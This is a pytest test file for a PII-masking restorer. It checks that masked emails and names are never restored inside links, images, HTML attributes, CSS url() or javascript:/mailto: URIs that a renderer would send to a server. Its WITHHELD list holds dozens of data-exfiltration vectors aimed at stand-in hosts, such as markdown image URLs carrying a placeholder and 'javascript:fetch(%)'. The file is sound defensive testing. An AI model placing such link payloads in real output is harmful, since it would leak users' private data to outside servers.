"""No value is ever put where a renderer would carry it to a server, and values next to links are still restored."""

import json
import time

import pytest

from router.masking.restore import Restorer
from router.masking.vault import Entry, Vault

MAIL, NAME = "[EMAIL_ADDRESS_1]", "[PERSON_1]"
VAULT = Vault([Entry(MAIL, "EMAIL_ADDRESS", "ann@corp.example"), Entry(NAME, "PERSON", "Ann Lee")])

WITHHELD = (
    "![](https://x.example/?q=%)",
    "![logo](https://x.example/a(b)c?q=%)",
    "[here](<https://x.example/?q=a b %>)",
    "[here](\nhttps://x.example/%)",
    "[here]( /relative/%)",
    "[here](mailto:evil@x.example?body=%)",
    r"[here](a\)%)",
    "[a](b [c](<d)) %>)",
    "[ref]: https://x.example/%",
    "  > 1. [ref]:\n  //x.example/%",
    "[ref]: <https://x.example/a b %>",
    "[two\nlines]: &#47;&#47;x.example/%",
    "[^1]: <//x.example/a %>",
    "<https://x.example/%>",
    "<mailto:evil@x.example?body=%>",
    "<x-custom:%>",
    "see https://x.example/%",
    "see HTTPS://x.example/%",
    "see https:x.example/%",
    'see https://x.example/?q="a,%',
    "see http://%.x.example",
    "see http:x?%",
    "see www.x.example/%",
    "see x.example/?q=%",
    "see x.example:8080#%",
    "see //x.example/%",
    "data:text/html,%",
    "javascript:fetch(%)",
    '<a href="https://x.example/?q=a b %">',
    "<img src='/x?%'>",
    "<img src = x?%>",
    "<IMG SRC=%>",
    '<img\n alt="x"\n srcset="a 1x, %">',
    '<div style="background: url(x?%)">',
    '<img/src="https://x.example/? %">',
    '<a alt=" <img src="https://x.example/?q=a %">',
    "<a x=' <img alt='>' src=\"https://x.example/? %\">",
    "x <b [t](<https://x.example/?q=a %>)",
    '[a](x <img src="https://x.example/?) %">',
    r"\[a](https://x.example/?q=x)%",
    "<b https://x.example/?q=>%",
    "<a:https://x.example/?q=>%",
    "<a:bb:https://x.example/?q=>%",
    "https://x.example/?q=[a](b)%",
    "https://x.example/?q=\u00a0%",
    '<img src="https://x.example/?q=\n\n%">',
    r"see \\x.example\share\%",
    r"see (\\x.example@SSL\DavWWWRoot\%",
    r"see \\\\x\\%",
    "<style>p { background: url(x?%) }</style>",
    "p { background: URL( 'x?) %' ) }",
    r'p { background: url("a\" %") }',
    "[![x](/a.png)](/b?%)",
    '<iframe src="/x" name="%">',
    "<form action=/x><input value=%>",
    "see %.x.example",
    "see %-s.x.example, then",
    "see %s.x.y",
    r"see \\%.x.example\share",
    "x@%.x.example",
    "sip:x@x.example?body=%",
    "view-source:x.example/%",
    "<p>Hi</p>\n\n<img\nsrcset='a 1x,\n\n\n b 2x,\n\n%'>",
)

RESTORED = (
    "%",
    "[%](https://x.example/)",
    "![photo of %](https://x.example/a.png)",
    "[x](https://x.example/a) by %",
    "see https://x.example/ or ask %",
    '<a href="https://x.example/">%</a>',
    "<img alt=\"%\" title='%'>",
    "<https://x.example/>%",
    "Ann <%>",
    "[^1]: % said so",
    "[ref]: https://x.example/ \n%",
    "Note: [x] %",
    "if a <b and c > d: print(%)",
    "x = a[0]; print(%)",
    "https://x.example/\n\n%",
    "e.g. and/or %, file.py: %",
    "| [a](https://x.example) | % |",
    "p { background: url(x.png) } /* % */",
    "<div style='background: url(\"a)b\")'>%</div>",
    "a curl (%) and a url (%)",
    r"C:\\Users\\%",
    r"a \\ %, b\\%",
    "%. Then %... and %.txt, %.com, %.1.2.",
    "%'s %@x.example %.-",
    "tel: %, ratio 1://2 %",
)


def restored(text: str, *, json_source: bool = False) -> str:
    restorer = Restorer(VAULT, json_source=json_source)
    return restorer.feed(text) + restorer.finish()


@pytest.mark.parametrize("placeholder", [MAIL, NAME, r"[EMAIL\_ADDRESS\_1]", r"\[PERSON\_1\]"])
@pytest.mark.parametrize("number", range(len(WITHHELD)))
def test_nothing_is_restored_inside_a_url(number: int, placeholder: str) -> None:
    text = WITHHELD[number].replace("%", placeholder)
    assert restored(text) == text
    source = json.dumps({"a": text}, ensure_ascii=False)
    assert json.loads(restored(source, json_source=True)) == {"a": text}
    escaped = json.dumps({"a": text.replace("/", "\0")}).replace("\\u0000", "\\/").replace("http", "\\u0068ttp")
    assert json.loads(restored(escaped, json_source=True)) == {"a": text}


@pytest.mark.parametrize(("placeholder", "value"), [(MAIL, "ann@corp.example"), (r"\[PERSON\_1\]", "Ann Lee")])
@pytest.mark.parametrize("number", range(len(RESTORED)))
def test_values_beside_a_url_are_restored(number: int, placeholder: str, value: str) -> None:
    text, expected = (RESTORED[number].replace("%", stand_in) for stand_in in (placeholder, value))
    assert restored(text) == expected
    source = json.dumps({"a": text, "b": placeholder}, ensure_ascii=False)
    assert json.loads(restored(source, json_source=True)) == {"a": expected, "b": value}


def test_a_path_separator_before_a_placeholder_stays() -> None:
    assert restored(r"C:\Users\[PERSON_1]\notes.txt") == r"C:\Users\Ann Lee\notes.txt"


def test_percent_encoded_placeholders_stay_as_they_are() -> None:
    text = "%5BPERSON_1%5D and %5bPERSON%5f1%5d"
    assert restored(text) == text


def test_a_url_ends_with_its_json_string() -> None:
    source = json.dumps({"url": "https://x.example/a", "who": NAME}, separators=(",", ":"))
    assert json.loads(restored(source, json_source=True))["who"] == "Ann Lee"


def test_a_restored_value_can_begin_a_url_but_gets_none_added() -> None:
    vault = Vault([Entry("[URL_1]", "URL", "https://corp.example/a"), Entry(NAME, "PERSON", "Ann")])
    restorer = Restorer(vault)
    assert (
        restorer.feed("at [URL_1]?q=[PERSON_1] [PERSON_1]") + restorer.finish()
        == "at https://corp.example/a?q=[PERSON_1] Ann"
    )


@pytest.mark.parametrize(
    "text", ["<a <a " * 4000, "[" * 20_000, "](" * 20_000, "<a b='" * 6000, "x" * 50_000 + ":" * 5000]
)
def test_hostile_answers_stay_linear(text: str) -> None:
    restorer = Restorer(VAULT)
    begun = time.thread_time()
    for at in range(0, len(text), 500):
        restorer.feed(text[at : at + 500] + NAME)
    restorer.finish()
    assert time.thread_time() - begun < 2.0
